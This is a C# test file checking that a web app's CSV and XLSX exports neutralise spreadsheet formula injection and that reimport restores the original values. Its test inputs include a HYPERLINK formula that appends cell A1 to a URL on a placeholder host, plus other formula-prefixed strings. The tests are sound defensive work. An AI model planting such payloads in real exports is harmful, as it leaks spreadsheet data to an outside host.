using System.IO.Compression;
using System.Net;
using System.Text;
using System.Xml.Linq;
using Zhifa.Web.Tests.Support;

namespace Zhifa.Web.Tests.FieldCases;

/// <summary>
/// Text that a spreadsheet would run as a formula is neutralised in exports (a leading apostrophe
/// in CSV, a string cell in XLSX), numbers stay numbers, and the importer removes the apostrophe again.
/// </summary>
public sealed class FormulaInjectionTests(ZhifaFactory factory) : IClassFixture<ZhifaFactory>
{
    private static readonly string[] Dangerous =
    [
        "=HYPERLINK(\"http://example.invalid/?\"&A1,\"点击\")",
        "+86 138 0000 0000",
        "-测试公司",
        "@SUM(1+1)",
    ];

    private async Task<HttpClient> CreateDangerousMattersAsync(string prefix)
    {
        var legal = await factory.SignedInAsync("legal");
        for (var i = 0; i < Dangerous.Length; i++)
        {
            var response = await legal.CreateEntryAsync("matters", new()
            {
                ["organisation"] = "czrf",
                ["code"] = $"{prefix}-{i}",
                ["name"] = Dangerous[i],
                ["kind"] = "行政处罚",
                ["category"] = "人民防空",
                ["basis_law"] = "测试法",
                ["basis_article"] = "第一条",
                ["basis_text"] = "条文",
                ["enforcement_body"] = "测试机关",
                ["fine_min_unit"] = "50",
                ["fine_max_unit"] = "5000",
            });
            Assert.Equal(HttpStatusCode.Created, response.StatusCode);
        }

        return legal;
    }

    [Fact]
    public async Task CsvExport_FormulaText_GetsApostropheNumbersDoNot()
    {
        var legal = await CreateDangerousMattersAsync("FC31A");

        var csv = Encoding.UTF8.GetString(await legal.GetByteArrayAsync("/api/lists/matters/export?format=csv"));

        foreach (var text in Dangerous)
        {
            var quoted = "'" + text;
            Assert.Contains(text.Contains('"', StringComparison.Ordinal) ? "\"" + quoted.Replace("\"", "\"\"", StringComparison.Ordinal) + "\"" : quoted, csv, StringComparison.Ordinal);
        }

        var line = csv.Split('\n').Single(l => l.StartsWith("czrf,FC31A-2,", StringComparison.Ordinal));
        Assert.Contains(",50,5000,", line, StringComparison.Ordinal);
    }

    [Fact]
    public async Task CsvExport_ReimportedUnchanged()
    {
        var legal = await CreateDangerousMattersAsync("FC31B");
        var csv = await legal.GetByteArrayAsync("/api/lists/matters/export?format=csv");

        var response = await legal.PostAsync("/api/lists/matters/import", Csv.Content(csv));

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Contains("\"updated\":0", await response.Content.ReadAsStringAsync(), StringComparison.Ordinal);
        var names = (await legal.EntriesAsync("matters", "FC31B-")).Select(e => e.Values["name"]);
        Assert.Equal(Dangerous.Order(), names.Order());
    }

    [Fact]
    public async Task XlsxExport_FormulaTextIsStringCell_NoFormulas()
    {
        var legal = await CreateDangerousMattersAsync("FC31C");

        var bytes = await legal.GetByteArrayAsync("/api/lists/matters/export?format=xlsx");

        using var zip = new ZipArchive(new MemoryStream(bytes));
        var sheetEntry = zip.Entries.Single(e => e.FullName.StartsWith("xl/worksheets/sheet", StringComparison.Ordinal));
        var sheet = XDocument.Load(sheetEntry.Open());
        XNamespace main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
        Assert.Empty(sheet.Descendants(main + "f"));
        var cells = sheet.Descendants(main + "c").ToList();
        var sharedStrings = zip.GetEntry("xl/sharedStrings.xml") is { } entry
            ? XDocument.Load(entry.Open()).Descendants(main + "si").Select(si => si.Value).ToList()
            : [];
        string CellText(XElement cell) => (string?)cell.Attribute("t") switch
        {
            "s" => sharedStrings[int.Parse(cell.Value, System.Globalization.CultureInfo.InvariantCulture)],
            _ => cell.Value,
        };
        foreach (var text in Dangerous)
        {
            var cell = cells.First(c => CellText(c) == text);
            Assert.True((string?)cell.Attribute("t") is "s" or "inlineStr", $"Cell for {text} is not a string cell.");
        }

        var fineCell = cells.First(c => CellText(c) == "5000");
        Assert.True((string?)fineCell.Attribute("t") is null or "n", "The fine is not a numeric cell.");
    }
}
